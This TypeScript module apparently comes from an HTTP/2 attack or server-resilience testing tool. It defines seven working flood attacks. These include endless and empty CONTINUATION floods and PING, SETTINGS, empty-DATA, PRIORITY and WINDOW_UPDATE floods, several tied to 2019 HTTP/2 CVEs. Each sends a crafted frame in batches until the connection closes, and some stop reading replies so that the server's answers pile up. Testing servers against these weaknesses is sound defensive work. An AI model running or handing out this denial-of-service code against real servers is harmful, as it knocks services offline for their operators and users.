import { type Attack, PATIENCE } from "./attack";
import { type Budget } from "./budget";
import { type Connection, message } from "./connection";
import { frame, settings, TYPE, uint32 } from "./frames";
import { callFields, encode } from "./headers";
import { endOfConnection, overHttp2 } from "./overHttp2";

/** Frames to a write. */
const BATCH = 500;

interface Flood {
  readonly name: string;
  readonly about: string;
  /** Whether the attacker leaves the answers unread. */
  readonly unread?: true;
  /** What comes before the flood. @returns the frame to repeat */
  readonly begin: (connection: Connection) => Promise<Buffer>;
}

/** The same frame again and again until someone ends it. */
function flood({ name, about, unread, begin }: Flood): Attack {
  return overHttp2({
    name,
    about,
    endsWith: ["connection closed"],
    async attack(connection: Connection, budget: Budget) {
      const batch = Array<Buffer>(BATCH).fill(await begin(connection));
      if (unread) connection.stopReading();
      while (budget.left && (await connection.send(...batch)));
      return endOfConnection(connection, PATIENCE);
    },
  });
}

const PING = frame(TYPE.PING, 0, 0, Buffer.alloc(8));

export const FLOODS: readonly Attack[] = [
  flood({
    name: "continuation-flood",
    about: "a header block that never ends: HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION",
    async begin(connection) {
      const stream = connection.nextStream();
      await connection.send(frame(TYPE.HEADERS, 0, stream, encode(callFields())));
      return frame(TYPE.CONTINUATION, 0, stream, encode([["x-more", "of the same"]]));
    },
  }),
  flood({
    name: "empty-continuation-flood",
    about: "CONTINUATION frames with nothing in them, which no limit of bytes ends",
    async begin(connection) {
      const stream = connection.nextStream();
      await connection.send(frame(TYPE.HEADERS, 0, stream, encode(callFields())));
      return frame(TYPE.CONTINUATION, 0, stream);
    },
  }),
  flood({
    name: "ping-flood",
    about: "PINGs whose answers are not read and pile up (CVE-2019-9512)",
    unread: true,
    begin: () => Promise.resolve(PING),
  }),
  flood({
    name: "settings-flood",
    about: "SETTINGS whose acknowledgements are not read and pile up (CVE-2019-9515)",
    unread: true,
    begin: () => Promise.resolve(settings()),
  }),
  flood({
    name: "empty-data-flood",
    about: "DATA frames with nothing in them (CVE-2019-9518)",
    async begin(connection) {
      const stream = await connection.request(callFields());
      return frame(TYPE.DATA, 0, stream);
    },
  }),
  flood({
    name: "priority-flood",
    about: "PRIORITY frames, each of which reorders the streams (CVE-2019-9513)",
    begin: () => Promise.resolve(frame(TYPE.PRIORITY, 0, 1, Buffer.concat([uint32(3), Buffer.of(1)]))),
  }),
  flood({
    name: "window-update-flood",
    about: "WINDOW_UPDATE frames that make room for nothing",
    async begin(connection) {
      const stream = await connection.request(callFields());
      await connection.data(stream, message(0), false);
      return frame(TYPE.WINDOW_UPDATE, 0, stream, uint32(1));
    },
  }),
];
